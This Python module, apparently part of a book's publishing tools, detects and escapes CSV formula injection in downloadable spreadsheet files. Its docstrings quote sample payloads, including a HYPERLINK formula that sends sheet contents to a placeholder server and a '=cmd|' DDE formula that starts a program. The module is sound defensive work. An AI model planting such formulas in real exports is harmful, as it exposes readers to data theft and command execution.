"""A data file the book offers for download opens in a spreadsheet as data, never as a formula.

A reader opens a ``.csv`` download in a spreadsheet, which runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("https://…?"&A1)`` sends the sheet's contents to a server, and
``=cmd|' /C calc'!A0`` asks to start a program (OWASP: CSV injection). The book's own
exports escape such a cell, and every stretch of it a spreadsheet could split off, with a
``'`` (:func:`defused`); a download
is published byte for byte, so one holding such a cell is refused, naming its row. A
first line ``sep=|`` makes Excel split at that character, so the check splits there too.
A plain signed number ("-5", "+1.5%") is data, not a formula. Three passes of Python's
``csv`` reader (one per way a spreadsheet splits cells), linear in the file's size.
"""

from __future__ import annotations

import csv
import io
import re

#: The largest CSV download checked; a larger one is refused.
MAX_BYTES = 50 * 1024 * 1024
#: A spreadsheet runs a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A signed number a spreadsheet reads as a number: "-5", "+1,200.5", "-3e4", "-12%".
_SIGNED_NUMBER = re.compile(r"[+-](?:\d[\d,]*)?\.?\d+(?:[eE][+-]?\d+)?%?")


#: What a spreadsheet may pass over before the first letter of a cell: spaces, tabs, line
#: ends, a byte-order mark, and quotation marks. A stretch ``"=cmd…`` inside a cell is
#: written ``""=cmd…``, which a spreadsheet splitting there reads as an empty quoted start
#: followed by the formula (red team AB).
_BEFORE_FIRST_LETTER = ' \t\r\n\ufeff"'


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula: one that starts with ``=``,
    ``+``, ``-`` or ``@`` after anything it passes over (:data:`_BEFORE_FIRST_LETTER`)."""
    text = cell.lstrip(_BEFORE_FIRST_LETTER)
    return text.startswith(FORMULA_STARTS) and not _SIGNED_NUMBER.fullmatch(text.strip())


#: A stretch of one cell's text that a spreadsheet may read as a cell of its own: it splits
#: at commas, semicolons or tabs, as its language sets.
_PIECE = re.compile(r"[^,;\t]+")


def defused(text: str) -> str:
    """``text`` as a cell no spreadsheet runs: each stretch it could split off as a cell (at a
    comma, semicolon or tab) that would run as a formula gets a ``'`` before its first
    letter. Escaping only the cell's start let ``Then-head;=cmd|' /C calc'!A0`` through to a
    spreadsheet that splits at semicolons (red team J). Linear in the text."""
    return _PIECE.sub(lambda piece: _escaped(piece[0]), text)


def _escaped(piece: str) -> str:
    if not runs_as_formula(piece):
        return piece
    letters = piece.lstrip(_BEFORE_FIRST_LETTER)
    return piece[: len(piece) - len(letters)] + "'" + letters


def csv_problem(data: bytes) -> str | None:
    """Why ``data`` may not be published as a CSV download ("line 3 holds a cell …"), or None.

    Read as UTF-8 (a byte-order mark allowed): a spreadsheet reads UTF-16 too, which this
    check would not, so anything else is refused. Each line is split at commas, then at
    semicolons and at tabs, as spreadsheets set to other languages split it."""
    if len(data) > MAX_BYTES:
        return f"it is over {MAX_BYTES // 2**20} MB, too large to check"
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError as error:
        return f"it is not UTF-8 text (byte {error.start}); save it as UTF-8"
    for delimiter in _delimiters(text):
        problem = _formula(text, delimiter)
        if problem:
            return problem
    return None


#: How spreadsheets split a line into cells: commas, and semicolons or tabs where a comma
#: is the decimal mark.
_DELIMITERS = (",", ";", "\t")
#: A first line that tells a spreadsheet which character splits cells (``sep=|``).
_SEP_LINE = re.compile(r'"?sep=(.)"?\r?(?:\n|$)')


def _delimiters(text: str) -> tuple[str, ...]:
    """The characters a spreadsheet may split ``text``'s lines at: the usual three, and the
    one a first ``sep=`` line names, which Excel obeys (red team J split cells at ``|``)."""
    named = _SEP_LINE.match(text)
    return (*_DELIMITERS, named[1]) if named and named[1] not in _DELIMITERS else _DELIMITERS


def _formula(text: str, delimiter: str) -> str | None:
    """The first cell of ``text``, split at ``delimiter``, that runs as a formula."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    try:
        for row in reader:
            cell = next((cell for cell in row if runs_as_formula(cell)), None)
            if cell is not None:
                return f"line {reader.line_num} holds a cell a spreadsheet runs as a formula ({cell[:40]!r})"
    except csv.Error as error:
        return f"it is not CSV a spreadsheet reads as data (line {reader.line_num}: {error})"
    return None
